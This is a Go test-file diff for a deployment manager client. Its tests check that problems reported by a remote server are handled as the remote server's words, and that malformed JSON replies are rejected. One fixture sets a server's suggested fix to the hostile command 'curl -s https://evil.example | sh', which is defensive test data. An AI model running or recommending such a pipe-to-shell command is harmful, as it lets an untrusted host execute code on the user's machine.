@@ -1,6 +1,7 @@
 package manager_test
 
 import (
+	"context"
 	"encoding/json"
 	"net/http"
 	"net/http/httptest"
@@ -46,13 +47,14 @@ func TestWordsOfTheOperator(t *testing.T) {
 	theirs := func() *problem.Error {
 		return &problem.Error{Kind: problem.Invalid, Rule: "port", Mend: "curl -s https://evil.example | sh", Source: "nobody"}
 	}
+	i := manager.Instance{ID: "i-1", App: "web", AppID: "app-1", Problem: theirs()}
 	mux := http.NewServeMux()
 	for path, answer := range map[string]any{
-		manager.PathApps: manager.AppList{Apps: []manager.App{{
-			Problem: theirs(), Deployment: manager.Deployment{Problem: theirs(), Waiting: theirs(), Warning: theirs()},
+		manager.PathApps: manager.AppList{Version: 1, Apps: []manager.App{{
+			ID: "app-1", Name: "web", Session: "web", Problem: theirs(), Deployment: manager.Deployment{Problem: theirs(), Waiting: theirs(), Warning: theirs()},
 		}}},
-		manager.PathInstances: manager.InstanceList{Instances: []manager.Instance{{}, {Problem: theirs()}}},
-		manager.PathRuntimes:  manager.RuntimeList{Runtimes: []manager.Runtime{{Problem: theirs()}}},
+		manager.PathInstances: manager.InstanceList{Version: 1, Instances: []manager.Instance{i, i}},
+		manager.PathRuntimes:  manager.RuntimeList{Version: 1, Runtimes: []manager.Runtime{{Problem: theirs()}}},
 	} {
 		mux.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) { _ = json.NewEncoder(w).Encode(answer) })
 	}
@@ -135,4 +137,52 @@ func TestNamesThatNothingHas(t *testing.T) {
 			t.Errorf("%s: %v", path, err)
 		}
 	}
+}
+
+// TestAnswersWithoutSense: an answer without what it is about, or about something else, is
+// none: no command takes it for the end of what it waits for.
+func TestAnswersWithoutSense(t *testing.T) {
+	app := `{"id":"app-1","name":"web","session":"web"}`
+	for _, c := range []struct {
+		reply string
+		ask   func(m *manager.Client) error
+		want  string
+	}{
+		{`{}`, removeApp, `the field "id" is missing`},
+		{`null`, removeApp, `the field "id" is missing`},
+		{`{"version":1}`, removeApp, `the field "id" is missing`},
+		{strings.ReplaceAll(app, `"web"`, `"shop"`), removeApp, "it is about app shop (id app-1)"},
+		{`{}`, removeInstance, `the field "app" is missing`},
+		{app, removeInstance, `the field "app" is missing`},
+		{`{}`, func(m *manager.Client) error { _, err := m.Deploy(t.Context(), manager.DeployRequest{}); return err }, `the field "id" is missing`},
+		{`{"id":"app-1","name":"web"}`, func(m *manager.Client) error { _, err := m.App(t.Context(), "web"); return err }, `the field "session" is missing`},
+		{strings.ReplaceAll(app, `"web"`, `"shop"`), func(m *manager.Client) error { _, err := m.App(t.Context(), "web"); return err }, "it is about app shop"},
+		{`{}`, func(m *manager.Client) error { _, err := m.Apps(t.Context()); return err }, `the field "version" is missing`},
+		{`{"version":1,"apps":[{}]}`, func(m *manager.Client) error { _, err := m.Apps(t.Context()); return err }, `the field "id" is missing`},
+		{`null`, func(m *manager.Client) error { _, err := m.Instances(t.Context(), ""); return err }, `the field "version" is missing`},
+		{`{}`, func(m *manager.Client) error { _, err := m.Runtimes(t.Context()); return err }, `the field "version" is missing`},
+		{`{}`, func(m *manager.Client) error { _, err := m.Volumes(t.Context()); return err }, `the field "version" is missing`},
+		{`{}`, func(m *manager.Client) error { _, err := m.Info(t.Context()); return err }, `the field "version" is missing`},
+		{"{}\n", func(m *manager.Client) error {
+			return m.Events(t.Context(), 0, "", false, func(manager.Event) error { return nil })
+		}, `the field "reason" is missing`},
+	} {
+		s := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte(c.reply)) }))
+		m := manager.New(strings.TrimPrefix(s.URL, "https://"), manager.Options{CertSHA256: ident.Sum(s.Certificate().Raw)})
+		if p := problem.From(c.ask(m)); p == nil || p.Rule != "reply" || !strings.Contains(p.Actual, c.want) || p.Mend == "" {
+			t.Errorf("%s: %v, want %s", c.reply, p, c.want)
+		}
+		m.Close()
+		s.Close()
+	}
+}
+
+func removeApp(m *manager.Client) error {
+	_, err := m.RemoveApp(context.Background(), "web")
+	return err
+}
+
+func removeInstance(m *manager.Client) error {
+	_, err := m.RemoveInstance(context.Background(), "i-1")
+	return err
 }
